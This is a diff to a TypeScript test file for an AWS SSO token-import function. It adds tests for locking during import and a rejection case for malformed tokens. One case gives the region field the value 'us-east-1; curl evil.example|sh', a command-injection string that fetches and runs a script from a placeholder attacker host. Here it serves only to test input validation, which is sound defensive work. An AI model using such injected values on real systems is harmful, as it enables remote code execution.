@@ -1,8 +1,10 @@
 import { describe, expect, test } from "bun:test";
 import { importToken } from "../../src/identity/import-token.ts";
+import { lockPath } from "../../src/store/own-folder.ts";
 import { ownTokenPath, portals } from "../../src/store/own-token-cache.ts";
 import { failureOf } from "../support/failure.ts";
 import { fakeSystem } from "../support/fake-system.ts";
+import { fakeWire } from "../support/fake-wire.ts";
 import { memoryFiles } from "../support/memory-files.ts";
 
 const folder = "/home/me/.aws-login";
@@ -16,9 +18,14 @@ const token = {
 };
 const refreshable = { refreshToken: "r", clientId: "id", clientSecret: "s" };
 
-function importing(content: object, said: { startUrl?: string; ssoRegion?: string } = {}) {
-  const files = memoryFiles({ "/t.json": JSON.stringify(content) });
-  const context = { system: fakeSystem({ instead: files }), home: "/home/me" };
+function importing(
+  content: object,
+  said: { startUrl?: string; ssoRegion?: string } = {},
+  busy: (() => void)[] = [],
+) {
+  const files = memoryFiles({ "/t.json": JSON.stringify(content) }, busy);
+  const system = fakeSystem({ instead: files });
+  const context = { system, home: "/home/me", wire: fakeWire(system) };
   return { files, done: importToken("file:///t.json", said, context) };
 }
 
@@ -42,6 +49,24 @@ describe("importToken()", () => {
     expect((await done).startUrl).toBe(startUrl);
   });
 
+  test("importToken() takes its turn with those who renew the sign-in to the portal", async () => {
+    const { files, done } = importing(token);
+    await done;
+    const path = ownTokenPath(folder, startUrl);
+    const locked = files.log.indexOf(`lock ${lockPath(folder, path)} 60000`);
+    expect(locked).toBeGreaterThanOrEqual(0);
+    expect(files.log.indexOf(`write ${path}`)).toBeGreaterThan(locked);
+  });
+
+  test("importToken() keeps nothing while somebody signs in to the portal", async () => {
+    const { files, done } = importing(token, {}, [() => {}]);
+    const failure = await failureOf(() => done);
+    expect(failure.message).toBe(
+      `cannot import /t.json: another aws-login has been signing in to ${startUrl} for 60 s`,
+    );
+    expect([...files.files.keys()]).toEqual(["/t.json"]);
+  });
+
   const refused: Record<string, [object, { startUrl?: string; ssoRegion?: string }, string, string]> = {
     "a token that is of no use": [
       { ...token, expiresAt: "2020-01-01T00:00:00Z" },
@@ -51,6 +76,12 @@ describe("importToken()", () => {
     ],
     "a token of nobody knows where": [{ ...token, startUrl: undefined }, {}, "failed", "names no start URL"],
     "a start URL that is none": [{ ...token, startUrl: "x\u001b" }, {}, "failed", "it is no URL"],
+    "a region that is none": [
+      { ...token, region: "us-east-1; curl evil.example|sh" },
+      {},
+      "failed",
+      "cannot use the region of the token in /t.json",
+    ],
     "another start URL than the file's": [
       token,
       { startUrl: "https://x.awsapps.com/start" },
